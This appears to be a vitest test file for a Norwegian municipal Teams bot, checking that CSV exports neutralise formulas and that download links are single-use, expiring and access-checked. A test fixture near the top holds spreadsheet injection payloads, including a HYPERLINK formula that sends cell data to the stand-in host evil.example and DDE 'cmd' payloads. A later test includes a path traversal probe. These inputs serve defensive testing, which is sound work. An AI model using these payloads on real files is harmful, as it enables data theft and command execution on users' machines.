import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import { world, PEOPLE, type World } from '../support/harness.js';
import { buttons, cardsIn, previewCall, type TeamsClient } from '../support/teams-client.js';
import { press } from '../support/press.js';
import { formulaCells, parseCsv } from '../support/csv.js';
import { fixedClock } from '../support/clocks.js';

let w: World;
const clock = fixedClock('2026-11-30T09:00:00Z');
beforeEach(async () => {
  clock.t = new Date('2026-11-30T09:00:00Z').getTime();
  w = await world({}, clock);
});
afterEach(async () => w.close());

/** Text that Excel would run as a formula, as people could type it into the bot's forms. */
const FORMULAS = {
  hyperlink: '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")',
  dde: "\t=cmd|' /C calc'!A0",
  plus: '+1+cmd|/C calc',
  at: '@SUM(1+1)*cmd|/C calc',
  minus: '-2+3+cmd|/C calc',
  cr: '\r=1+1',
};

const need = {
  needId: '',
  title: FORMULAS.hyperlink,
  description: FORMULAS.dde,
  population: FORMULAS.plus,
  intervention: FORMULAS.at,
  comparison: FORMULAS.minus,
  outcome: FORMULAS.cr,
  decision: '',
  serviceArea: 'home-care',
  urgency: 'within-a-year',
  theme: 'helse-omsorg',
};
const callForm = {
  callId: '',
  title: '=1+1',
  summary: '@SUM(1)',
  body: '-1',
  sender: '+USN',
  link: 'https://www.usn.no/forskning',
  deadline: '2027-01-15',
  kind: 'participation',
  target: 'cluster:notodden',
  audience: 'contacts',
  municipalities: '',
};

/** The URL of a card's Action.OpenUrl button (the download link). */
function linkOn(card: Record<string, any> | undefined): string {
  const found: string[] = [];
  const walk = (n: any) => {
    if (Array.isArray(n)) return n.forEach(walk);
    if (!n || typeof n !== 'object') return;
    if (n.type === 'Action.OpenUrl' && String(n.url).includes('/exports/')) found.push(n.url);
    Object.values(n).forEach(walk);
  };
  walk(card);
  if (!found.length) throw new Error('no download link on the card');
  return found[0];
}
const get = (url: string, headers: Record<string, string> = {}) => fetch(`${w.bot.url}${new URL(url).pathname}`, { headers });
const needsLink = async (coordinator: TeamsClient) => linkOn(cardsIn(await coordinator.say('eksporter behov'))[0]);

async function download(url: string): Promise<string[][]> {
  const res = await get(url);
  expect(res.status).toBe(200);
  return parseCsv(await res.text());
}

describe('CSV exports neutralise formulas', () => {
  it('needs: every field a person typed comes out as text, not a formula', async () => {
    const kari = w.client(PEOPLE.contact);
    const { needId: _ignored, ...typed } = need;
    await press(kari, cardsIn(await kari.say('nytt behov'))[0], 'Send inn', typed);
    const rows = await download(await needsLink(w.client(PEOPLE.coordinator)));
    expect(formulaCells(rows)).toEqual([]);
    const row = rows[1];
    expect(row[1]).toBe(`'${FORMULAS.hyperlink}`);
    expect(row[8]).toBe(`'${FORMULAS.dde.trim()}`);
    expect(row.slice(9, 12)).toEqual([`'${FORMULAS.plus}`, `'${FORMULAS.at}`, `'${FORMULAS.minus}`]);
  });

  it('call answers: the call and a comment typed as a formula come out as text', async () => {
    const ingrid = w.client(PEOPLE.coordinator);
    const kari = w.client(PEOPLE.contact);
    await kari.install();
    const sent = await press(ingrid, (await previewCall(ingrid, callForm)).card, 'Send nå');
    await w.settle();
    const callCard = cardsIn(await w.inbox(PEOPLE.contact)).find((c) => buttons(c).includes('Vi deltar'));
    await press(kari, callCard, 'Vi deltar', { comment: FORMULAS.hyperlink });
    const rows = await download(linkOn((await press(ingrid, sent.card, 'Åpne')).card));
    expect(formulaCells(rows)).toEqual([]);
    expect(rows.find((r) => r[1] === '3318')![4]).toBe(`'${FORMULAS.hyperlink}`);
  });

  it('participation: case number, signer and note typed as formulas come out as text', async () => {
    const kari = w.client(PEOPLE.contact);
    const s1 = await press(kari, cardsIn(await kari.say('deltakelse'))[0], 'Registrer steget', { meetingDate: '2026-04-23', note: FORMULAS.plus });
    const s2 = await press(kari, s1.card, 'Registrer steget', { decisionDate: '2026-05-21', caseNumber: '=1+1', outcome: 'join' });
    await press(kari, s2.card, 'Registrer steget', { signedDate: '2026-06-02', signedBy: FORMULAS.at });
    const rows = await download(linkOn(cardsIn(await w.client(PEOPLE.coordinator).say('klynge'))[0]));
    expect(formulaCells(rows)).toEqual([]);
    const row = rows.find((r) => r[1] === '3318')!;
    expect(row[6]).toBe("'=1+1");
    expect(row[9]).toBe(`'${FORMULAS.at}`);
  });
});

describe('download links', () => {
  it('say nothing about the person: a random token, not their id or cluster', async () => {
    const url = await needsLink(w.client(PEOPLE.coordinator));
    const token = new URL(url).pathname.split('/').pop()!;
    expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const decoded = Buffer.from(token, 'base64url').toString('latin1');
    for (const secret of ['aad-ingrid', 'ingrid', 'notodden']) {
      expect(url.toLowerCase()).not.toContain(secret);
      expect(decoded.toLowerCase()).not.toContain(secret);
    }
    // the store keeps only a hash of the token
    await w.bot.deps.store.engine.flushed();
    expect(JSON.stringify(w.bot.deps.store.engine.values('links'))).not.toContain(token);
  });

  it('work once: the second use opens a page that says, in the person’s language, how to get a new one', async () => {
    const ingrid = w.client(PEOPLE.coordinator);
    const url = await needsLink(ingrid);
    expect((await get(url)).status).toBe(200);
    const again = await get(url);
    expect(again.status).toBe(410);
    expect(again.headers.get('content-type')).toBe('text/html; charset=utf-8');
    const page = await again.text();
    expect(page).toContain('<html lang="nb">');
    expect(page).toContain('Denne lenken er allerede brukt. En nedlastingslenke virker bare én gang.');
    expect(page).toContain('Skriv «eksporter behov» til KSF-boten i Teams, så får du en ny lenke.');

    await ingrid.say('language english');
    const english = await needsLink(ingrid);
    await get(english);
    const used = await (await get(english, { 'accept-language': 'nb' })).text();
    expect(used).toContain('This link has already been used. A download link works only once.');
    expect(used).toContain('Type “export needs” to the KSF bot in Teams to get a new link.');
  });

  it('work once even when two requests arrive at the same instant', async () => {
    const url = await needsLink(w.client(PEOPLE.coordinator));
    const statuses = (await Promise.all(Array.from({ length: 5 }, () => get(url)))).map((r) => r.status).sort();
    expect(statuses).toEqual([200, 410, 410, 410, 410]);
  });

  it('expire after 5 minutes, with a page saying so', async () => {
    const ingrid = w.client(PEOPLE.coordinator);
    const early = await needsLink(ingrid);
    clock.t += 4 * 60_000 + 50_000;
    expect((await get(early)).status).toBe(200);
    const late = await needsLink(ingrid);
    clock.t += 5 * 60_000 + 1000;
    const res = await get(late);
    expect(res.status).toBe(410);
    const page = await res.text();
    expect(page).toContain('Denne lenken er utløpt. En nedlastingslenke virker bare i 5 minutter.');
    expect(page).toContain('Skriv «eksporter behov» til KSF-boten i Teams');
  });

  it('refuse anything that is not a token they issued, and do not use up the real one', async () => {
    const url = await needsLink(w.client(PEOPLE.coordinator));
    const path = new URL(url).pathname;
    const token = path.split('/').pop()!;
    const flipped = `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`;
    for (const junk of [`${token}.junk`, `${token}x`, flipped, 'abc', '', '..%2F..%2Fksf.json', 'a'.repeat(5000)]) {
      const res = await fetch(`${w.bot.url}/exports/needs/${junk}`, { headers: { 'accept-language': 'nn-NO' } });
      expect(res.status, junk.slice(0, 50)).toBeGreaterThanOrEqual(400);
      expect(res.status, junk.slice(0, 50)).toBeLessThan(500);
      if (res.status === 404 && junk) expect(await res.text()).toMatch(/Denne lenkja er ugyldig|Resource Not Found|not exist/);
    }
    // a needs token does not open another export
    expect((await fetch(`${w.bot.url}/exports/participation/${token}`)).status).toBe(404);
    expect((await get(url)).status).toBe(200);
  });

  it('send nothing when the use cannot be recorded (a link must never work twice)', async () => {
    const url = await needsLink(w.client(PEOPLE.coordinator));
    const engine = w.bot.deps.store.engine;
    const commit = engine.commit.bind(engine);
    engine.commit = () => Promise.reject(new Error('ENOSPC: no space left on device'));
    try {
      const res = await get(url);
      expect(res.status).toBe(503);
      const page = await res.text();
      expect(page).toContain('Boten kan ikke lagre noe akkurat nå, så filen ble ikke sendt.');
      expect(page).not.toContain('Referanse;');
    } finally {
      engine.commit = commit;
    }
  });

  it('refuse a person who lost the role, on a page in their language', async () => {
    const url = await needsLink(w.client(PEOPLE.coordinator));
    const person = (await w.bot.deps.store.people.get('aad-ingrid'))!;
    await w.bot.deps.store.engine.commit([{ c: 'people', id: person.id, v: { ...person, email: 'ingrid@elsewhere.example' } }]);
    const res = await get(url);
    expect(res.status).toBe(403);
    expect(await res.text()).toContain('Du har ikke lenger tilgang til dette.');
  });
});
